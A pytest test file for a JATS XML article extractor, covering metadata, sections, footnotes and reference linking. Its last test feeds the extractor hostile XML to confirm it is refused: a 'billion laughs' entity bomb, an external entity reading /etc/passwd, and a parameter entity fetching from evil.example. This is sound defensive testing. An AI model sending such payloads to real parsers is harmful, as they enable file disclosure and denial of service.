"""JATS XML -> text with the links that its authors gave."""

from __future__ import annotations

import pytest

pytest.importorskip("lxml.etree")

from claimlink.errors import InputError
from claimlink.reading.documents.extracted import Extracted
from claimlink.reading.documents.jats import extract_jats

_DOCTYPE = (
    '<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Archiving and Interchange DTD '
    'v1.2 20190208//EN" "JATS-archivearticle1.dtd">'
)
_MARSH = (
    '<ref id="B1"><label>1</label><mixed-citation id="C1">Marsh C. Moving house.\n  <source>J Ex'
    "</source>. 2019;4(2):1-9 .</mixed-citation></ref>"
)
_ODUYA = (
    '<ref id="B2"><label>[2]</label><element-citation><person-group person-group-type="author">'
    "<name><surname>Oduya</surname><given-names>BC</given-names></name>"
    "<name><surname>Marsh</surname><given-names>Cleo</given-names></name></person-group>"
    "<article-title>Where flats stand empty</article-title><source>J Ex</source><year>2020</year>"
    "<volume>5</volume><issue>1</issue><fpage>10</fpage><lpage>19</lpage>"
    '<pub-id pub-id-type="doi">10.1000/ab</pub-id></element-citation></ref>'
)
_MARSH_LINE = "Marsh C. Moving house. J Ex. 2019;4(2):1-9."
_ODUYA_LINE = (
    "Oduya, B. C. & Marsh, Cleo (2020). Where flats stand empty. J Ex, 5(1), 10–19. "
    "https://doi.org/10.1000/ab"
)


def _article(body: str, *, meta: str = "", back: str = "", head: str = _DOCTYPE) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{head}\n'
        '<article xmlns:xlink="http://www.w3.org/1999/xlink" xml:lang="en">'
        f"<front><article-meta>{meta}</article-meta></front><body>{body}</body>"
        f"<back>{back}</back></article>"
    ).encode()


def _linked(found: Extracted) -> list[tuple[str, list[str]]]:
    """Return each link's words with the entries that it leads to."""
    return [
        (
            found.text[link.start : link.end],
            [found.text[target.start : target.end] for target in link.targets],
        )
        for link in found.links
    ]


def _bibr(words: str, ids: str) -> str:
    return f'<xref ref-type="bibr" rid="{ids}">{words}</xref>'


def test_article_says_of_itself() -> None:
    meta = (
        '<article-id pub-id-type="doi">10.1000/xyz</article-id><title-group><article-title>Rents in'
        ' <italic>Graz</italic><xref ref-type="fn" rid="n1">*</xref></article-title></title-group>'
        '<contrib-group><contrib contrib-type="author"><name><surname>Lillis</surname>'
        "<given-names>Ana B</given-names></name></contrib>"
        '<contrib contrib-type="editor"><name><surname>Ostler</surname></name></contrib>'
        '<contrib contrib-type="author"><collab>Housing Group</collab></contrib></contrib-group>'
        '<pub-date pub-type="ppub"><month>1</month><year>2021</year></pub-date>'
        '<pub-date pub-type="epub"><day>4</day><month>3</month><year>2021</year></pub-date>'
        '<pub-date pub-type="collection"><day>9</day><month>9</month><year>2021</year></pub-date>'
        "<abstract><p>Rents rose&nbsp;in 2020 &ndash; fast.</p></abstract>"
    )
    assert extract_jats(_article("<p>It rained.</p>", meta=meta)) == Extracted(
        text="# Rents in Graz\n\n## Abstract\n\nRents rose\u00a0in 2020 – fast.\n\nIt rained.",
        title="Rents in Graz",
        byline="Ana B Lillis, Housing Group",
        published="2021-03-04",
        language="en",
        url="https://doi.org/10.1000/xyz",
    )


def test_sections_lists_captions_and_notes() -> None:
    body = (
        '<sec><label>1</label><title>Introduction</title><p>One.<fn id="n2"><p>A note.</p></fn> '
        'See <ext-link xlink:href="https://x.example/r">the report</ext-link>'
        '<xref ref-type="fn" rid="n1">*</xref> and <xref ref-type="fig" rid="F1">Figure 1</xref>'
        '<xref ref-type="fn" rid="gone">†</xref>.</p>'
        "<sec><title>Methods</title><p>These:<list list-type='order'><list-item><p>First.</p>"
        "<p>More.</p></list-item><list-item><p>Second.</p></list-item></list></p>"
        "<disp-quote><p>We cannot pay.</p></disp-quote>"
        '<fig id="F1"><label>Figure 1</label><caption><title>Rents.</title>'
        "<p>By year.</p></caption>"
        "<graphic/></fig><table-wrap><label>Table 1:</label><caption><p>Wages</p></caption><table>"
        "<tr><td>400</td></tr></table></table-wrap>"
        "<p>Where <inline-formula><tex-math>x^2</tex-math></inline-formula>10<sup>3</sup> km.</p>"
        "</sec></sec>"
    )
    back = (
        "<ack><title>Thanks</title><p>To all.</p></ack>"
        '<fn-group><fn id="n1"><label>*</label><p>Last one.</p></fn></fn-group>'
    )
    assert extract_jats(_article(body, back=back)).text == (
        "## 1 Introduction\n\nOne.[^fn1] See [the report](https://x.example/r)[^fn2] and "
        "Figure 1†.\n\n"
        "### Methods\n\nThese:\n\n1. First.\n\nMore.\n2. Second.\n\n> We cannot pay.\n\n"
        "Figure 1. Rents. By year.\n\nTable 1: Wages\n\nWhere 10³ km.\n\n## Thanks\n\nTo all.\n\n"
        "[^fn1]: A note.\n\n[^fn2]: Last one."
    )


def test_reference_links_lead_to_entries() -> None:
    body = (
        f"<p>Rents rose {_bibr('[1]', 'B1')}, flats stand empty [{_bibr('2', 'B2')},"
        f"{_bibr('3', 'C1 B2')}].<sup>{_bibr('2', 'B2')}</sup> So {_bibr('Marsh, 2019', 'B1')} and "
        f"{_bibr('others', 'gone')} say.</p>"
    )
    back = f"<ref-list><title>Literature</title>{_MARSH}{_ODUYA}</ref-list>"
    found = extract_jats(_article(body, back=back))
    assert found.text == (
        "Rents rose [1], flats stand empty [2,3].² So Marsh, 2019 and others say.\n\n"
        f"## Literature\n\n1. {_MARSH_LINE}\n2. {_ODUYA_LINE}"
    )
    assert _linked(found) == [
        ("[1]", [_MARSH_LINE]),
        ("2", [_ODUYA_LINE]),
        ("3", [_MARSH_LINE, _ODUYA_LINE]),
        ("²", [_ODUYA_LINE]),
        ("Marsh, 2019", [_MARSH_LINE]),
    ]


@pytest.mark.parametrize(
    ("ref", "line"),
    [
        (
            "<ref><mixed-citation><name><surname>Bree</surname><given-names>A</given-names></name>"
            "<year>2009</year><source>Gulls</source><publisher-loc>Graz</publisher-loc>"
            "<publisher-name>Example Press</publisher-name></mixed-citation></ref>",
            "- Bree, A. (2009). Gulls. Graz: Example Press.",
        ),
        (
            "<ref><element-citation><collab>Housing Office</collab><etal/><year>2010</year>"
            "<source>Who moves?</source></element-citation></ref>",
            "- Housing Office, et al. (2010). Who moves?",
        ),
        ("<ref><note><p>Personal papers.</p></note></ref>", "- Personal papers."),
        ("<ref/>" + _MARSH.replace("<label>1</label>", ""), f"- {_MARSH_LINE}"),
    ],
)
def test_entry_without_punctuation_is_put_together(ref: str, line: str) -> None:
    found = extract_jats(_article("<p>One.</p>", back=f"<ref-list>{ref}</ref-list>"))
    assert found.text == f"One.\n\n## References\n\n{line}"


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param(
            _article("<p>&l9;</p>", head=f'<!DOCTYPE article [<!ENTITY l0 "ha">{_LAUGHS}]>'),
            "it declares entities of its own, as attacks do; not read",
            id="billion laughs",
        ),
        pytest.param(
            _article(
                "<p>&x;</p>", head='<!DOCTYPE article [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            ),
            "it declares entities of its own, as attacks do; not read",
            id="entity of another file",
        ),
        pytest.param(
            _article(
                "<p>One.</p>",
                head='<!DOCTYPE article [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]>',
            ),
            "it declares entities of its own, as attacks do; not read",
            id="parameter entity of another server",
        ),
        pytest.param(
            _article("<p>" + "<italic>" * 300 + "x" + "</italic>" * 300 + "</p>"),
            "not well-formed XML (Excessive depth in document",
            id="deep nesting",
        ),
        pytest.param(b"<article><body>", "not well-formed XML (", id="cut"),
        pytest.param(b"<feed/>", "XML with the root 'feed', not a JATS article", id="another kind"),
        pytest.param(_article(""), "no text in it; only what is about the article", id="no text"),
    ],
)
def test_faulty_document_is_refused(content: bytes, message: str) -> None:
    with pytest.raises(InputError) as caught:
        extract_jats(content)
    assert caught.value.message.startswith(message)
